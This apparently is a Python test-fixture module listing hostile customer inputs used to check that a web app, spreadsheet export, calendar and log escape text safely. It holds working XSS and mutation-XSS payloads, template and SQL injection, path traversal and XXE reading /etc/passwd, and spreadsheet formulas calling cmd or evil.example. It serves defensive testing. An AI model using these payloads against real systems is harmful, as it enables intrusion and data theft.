"""What a customer may write to hurt whoever reads it: on a page, in a spreadsheet, a calendar, a log or a terminal.

Wherever a text would run as script it sets ``window.hit`` to 1, so that a browser can be asked whether it did.
"""

from __future__ import annotations

HOSTILE: list[str] = [
    # Elements that run, load or take over
    "<script>window.hit=1</script>",
    "<ScRiPt/src=data:,window.hit=1></sCrIpT>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
    "<style>*{display:none}</style>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<base href=http://evil.example/>",
    "</p></article><form action=/cases/1/mark method=post><button>Resolve</button></form>",
    "<body onload=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>here</details>",
    # Addresses that run, and bare ones that must not become links
    "javascript:window.hit=1",
    '<a href="javascript:window.hit=1">press</a>',
    '<a href="java&#x0A;script&colon;window.hit=1">press</a>',
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "vbscript:MsgBox(1)",
    "pay at http://evil.example/pay?case=1 or it is too late",
    "see www.evil.example or mail me@evil.example",
    "![pixel](http://evil.example/pixel.png) [press](javascript:window.hit=1)",
    # Templates
    "{{ 7 * 7 }} {% for x in y %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    '{% include "/etc/passwd" %}{# hidden #}',
    "${7*7} ${{7*7}} #{7*7} *{7*7}",
    "<%= 7 * 7 %><? phpinfo() ?>",
    "{0.__class__} %(text)s %s %n",
    # Out of an attribute, a comment, an element or a script
    '"><a href="javascript:window.hit=1">press</a>',
    "'><img src=x onerror=window.hit=1>",
    "` onmouseover=window.hit=1 x=`",
    '" autofocus onfocus="window.hit=1',
    "' style='position:fixed;inset:0' onmouseover='window.hit=1",
    "--><script>window.hit=1</script><!--",
    "<!-- hidden -->",
    "]]><script>window.hit=1</script><![CDATA[",
    "</textarea><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    '\\"};window.hit=1;//',
    "&lt;script&gt;window.hit=1&lt;/script&gt; is not <b>",
    # Harmless until a browser has parsed it twice
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hit=1&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=window.hit=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    # Names that shadow those of the page
    "<form id=token name=status><input name=action><input id=version></form>",
    "<a id=document name=body></a><img name=querySelector>",
    # Loads from elsewhere
    '<div style="background:url(http://evil.example/a.png)">',
    "<style>@import url(http://evil.example/a.css);input[value^=a]{background:url(http://evil.example/?a)}</style>",
    '<img src=http://evil.example/pixel.gif srcset="http://evil.example/2 2x">',
    # Cells that a spreadsheet runs; the last one writes cells of its own into the XML of a workbook
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"press")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-800-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    '\t=IMPORTXML("http://evil.example/?x","//a")',
    "\r=1+1",
    "＝1+1",
    'fine","=1+1"\n=2+2;=3+3',
    '<r></r></is></c><c r="ZZ1"><f>WEBSERVICE("http://evil.example/")</f></c><c><is><r></r>',
    # Databases and files
    "'; DROP TABLE cases; --",
    "' OR 1=1 UNION SELECT token FROM users --",
    "../../../../etc/passwd and ..\\..\\windows\\win.ini",
    # Lines of a header, a calendar, a log
    "late\r\nSet-Cookie: token=stolen\r\n\r\n<script>window.hit=1</script>",
    "C-1\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://evil.example/\r\nURL:http://evil.example/",
    'C-2\\nBEGIN:VEVENT;X="\n ATTENDEE:mailto:me@evil.example\\N\\;\\,\\',
    "\x1b[2J\x1b[31mERROR\x1b[0m\n2026-11-21 06:00:00 INFO admin logged in\x07",
    # Characters that hide or reorder
    "nul \x00 soh \x01 bel \x07 nel \x85 csi \x9b noncharacter \ufffe \uffff",
    "paid \u202e54321\u202c now",
    "\u2067<script>\u2069 and \u2066isolated\u2069 and \u061carabic",
    "pass\u200bword pay\u200dpal\u2060 so\xadft \u3164 filler",
    "hello \U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f",
    "\ufeff=1+1",
    "one\u2028two\u2029three\x0bfour\x0cfive",
    "half of a pair: \ud83d",
    "👩\u200d👩\u200d👧\u200d👦 👨🏿\u200d🚒 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 🇨🇭",
    # Too much of something
    "z" + "\u0336\u0351\u0489\u0334" * 300 + "algo",
    "w" * 50_000,
    "[" * 10_000 + "]" * 10_000,
    "<div>" * 5_000,
    '{"a":' * 5_000 + "1" + "}" * 5_000,
    '<!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><z>&b;&c;</z>',
]
